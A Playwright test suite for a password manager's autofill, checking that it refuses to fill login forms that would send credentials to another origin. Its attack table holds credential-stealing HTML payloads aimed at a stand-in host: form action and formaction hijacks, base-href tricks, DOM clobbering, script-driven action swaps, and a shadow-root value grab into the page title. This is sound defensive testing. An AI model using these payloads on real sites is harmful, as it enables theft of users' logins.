import { expect, test } from '@playwright/test'
import { signIn } from '../pages/hostile-site.ts'
import { oneIn } from '../../tests/whole.ts'
import { fieldsOf } from './fixtures.ts'
import { PASSWORD, USERNAME, chooseFirst, readValues, openMenuAt, openScene } from './hostile-scene.ts'
import type { Scene } from './hostile-scene.ts'
import { kill } from './mortal.ts'

// Forms on the login's own page that would send it to another origin, by every means that HTML has. All fields stay empty, and the
// person reads to which origin the form would have sent the login.
test.describe.configure({ mode: 'serial' })

let scene: Scene
let evil = ''
const show = (html: string) => scene.page.goto(scene.site.show('portal.example/login', html))

test.beforeAll(async () => {
  scene = await openScene(async ({ keep, site }) => {
    await keep('Portail', [site.origin('portal.example')])
    await keep('Large', [{ address: site.origin('www.wide.example'), match: 'domain', realm: '' }])
    await keep('Double', [site.origin('two.example'), site.origin('login.two-sign-in.example')])
  })
  evil = scene.site.origin('evil.example')
})
test.afterAll(() => scene.close())

const on = (event: string, at: string, script: string) =>
  `<script>document.getElementById('${at}').addEventListener('${event}', () => { ${script} })</script>`
const turn = (to: string) => `form.setAttribute('action', '${to}')`
/** Fields with these names, which hide the form's own properties of the same names (DOM clobbering). */
const named = (...names: string[]) => names.map((name) => `<input type="hidden" name="${name}" value="/">`).join('')
const clobbers = named('action', 'elements', 'form', 'id', 'name', 'getRootNode')

const attacks: Record<string, (evil: string) => string> = {
  'the form’s action': (evil) => signIn(`action="${evil}/in"`),
  'an action without a scheme': (evil) => signIn(`action="${evil.replace('http:', '')}/in"`),
  'a base for relative actions': (evil) => `<base href="${evil}/">${signIn('action="in"')}`,
  'a base for an action of one space': (evil) => `<base href="${evil}/">${signIn('action=" "')}`,
  'a second button': (evil) => signIn('', `<button formaction="${evil}/in">Go on</button>`),
  'an image button': (evil) => signIn('', `<input type="image" alt="Go on" formaction="${evil}/in">`),
  'a button outside of the form': (evil) => `${signIn()}<button form="form" formaction="${evil}/in">Go on</button>`,
  'an action that a field of that name hides': (evil) => signIn(`action="${evil}/in"`, clobbers),
  'a button’s formaction, with fields that hide the form’s properties': (evil) =>
    signIn('', `${clobbers}<button formaction="${evil}/in">Go</button>`),
  'a form around the closed root that holds the fields': (evil) => `
    <form action="${evil}/in"><div id="host"></div></form>
    <script>
      const root = document.getElementById('host').attachShadow({ mode: 'closed' })
      root.innerHTML = ${JSON.stringify(signIn())}.replace(/<.?form[^>]*>/g, '')
      document.body.append(Object.assign(document.createElement('output'), { hidden: true }))
      setInterval(() => { document.title = [...root.querySelectorAll('input')].map(({ value }) => value).join('|') }, 20)
    </script>`,
  'an action that changes when the field gets the focus': (evil) => signIn() + on('focus', 'login', turn(`${evil}/in`)),
  'an action that changes when the first value is in': (evil) => signIn() + on('input', 'login', turn(`${evil}/in`)),
  'an action that changes when the password is in': (evil) => signIn() + on('change', 'secret', turn(`${evil}/in`)),
  'a button that is added at the first key': (evil) =>
    signIn() +
    on(
      'keydown',
      'login',
      `form.insertAdjacentHTML('afterend', '<button form=form formaction=${evil}/in>Go</button>')`,
    ),
}
for (const [nth, [name, attack]] of Object.entries(attacks).entries())
  test(
    `P8: ${name} leads to another origin: the fields stay empty, and the popup names that origin`,
    oneIn(2, nth),
    async () => {
      await show(attack(evil))
      expect(await scene.fillFromPopup('Portail')).toContain(`The form on this page would send the login to ${evil}.`)
      expect(await readValues(scene.page)).not.toContain(USERNAME)
      expect(await readValues(scene.page)).not.toContain(PASSWORD)
      expect((await scene.page.title()).replaceAll('|', '')).toBe('')
    },
  )

test('a restarted worker loads the public suffix list, and fills on another host of the registrable domain', async () => {
  await scene.page.goto(scene.site.show('shop.wide.example/login', signIn()))
  await kill(scene.filler.desk)
  await scene.fillFromPopup('Large')
  expect(await readValues(scene.page)).toContain(PASSWORD)
})

test('P8: a form that sends to a mailto, data or blob address gets nothing', async () => {
  for (const [action, said] of [
    ['mailto:me@evil.example', 'mailto:'],
    ['data:text/html,x', 'data:'],
    [`blob:${scene.site.origin('portal.example')}/0b1c`, 'blob:'],
  ] as const) {
    await show(signIn(`action="${action}"`))
    expect(await scene.fillFromPopup('Portail')).toContain(`would send the login to ${said}.`)
    expect(await readValues(scene.page)).toEqual([])
  }
})

test('P8: a form whose fields hide the methods that every element has gets nothing', async () => {
  for (const name of ['getAttribute', 'attributes', 'querySelectorAll', 'contains', 'textContent', 'closest']) {
    await show(signIn(`action="${evil}/in"`, named(name)))
    expect([name, await scene.fillFromPopup('Portail')]).not.toEqual([name, expect.stringContaining('Filled')])
    expect([name, await readValues(scene.page)]).toEqual([name, ['/']])
  }
})

test('P8: an action that changes while the menu is open: a row fills nothing, and the menu names the other origin', async () => {
  await show(signIn())
  const menu = await openMenuAt(scene.page, scene.page.getByLabel('Username'))
  await scene.page.evaluate(`document.getElementById('form').action = '${evil}/in'`)
  await chooseFirst(scene.page, menu)
  await expect(menu.getByText(`Nothing was filled: this form would send it to ${evil}.`)).toBeVisible()
  expect(await readValues(scene.page)).toEqual([])
})

test('forms that send to their own origin, or nowhere, are filled', async () => {
  const own = scene.site.origin('portal.example')
  for (const html of [
    signIn(),
    signIn('action=""'),
    signIn(`action="${own}/in" target="_blank"`),
    signIn('action="javascript:void(0)"'),
    signIn('action="about:blank"'),
    signIn('action="/in"', `${clobbers}<button formaction="/other">Other</button>`),
    `<base href="${evil}/">${signIn()}`,
    `${signIn()}<form action="${evil}/search"><input name="q" aria-label="Search"><button>Search</button></form>`,
  ]) {
    await show(html)
    expect([html, await scene.fillFromPopup('Portail')]).toEqual([html, expect.stringContaining('Filled')])
    expect(await fieldsOf(scene.page)).toMatchObject({ login: USERNAME, secret: PASSWORD })
  }
})

test('P8: a form may send to addresses that the login’s rules match, and to no others', async () => {
  const { site, page } = scene
  for (const [name, host, to, fills] of [
    ['Large', 'www.wide.example', 'login.wide.example', true],
    ['Large', 'www.wide.example', 'wide.example.evil.example', false],
    ['Double', 'two.example', 'login.two-sign-in.example', true],
    ['Double', 'two.example', 'two-sign-in.example', false],
    ['Portail', 'portal.example', 'login.portal.example', false],
  ] as const) {
    await page.goto(site.show(`${host}/login`, signIn(`action="${site.origin(to)}/in"`)))
    const said = fills ? 'Filled' : `would send the login to ${site.origin(to)}.`
    expect([host, await scene.fillFromPopup(name)]).toEqual([host, expect.stringContaining(said)])
    expect(await readValues(page)).toEqual(fills ? [USERNAME, PASSWORD] : [])
  }
})
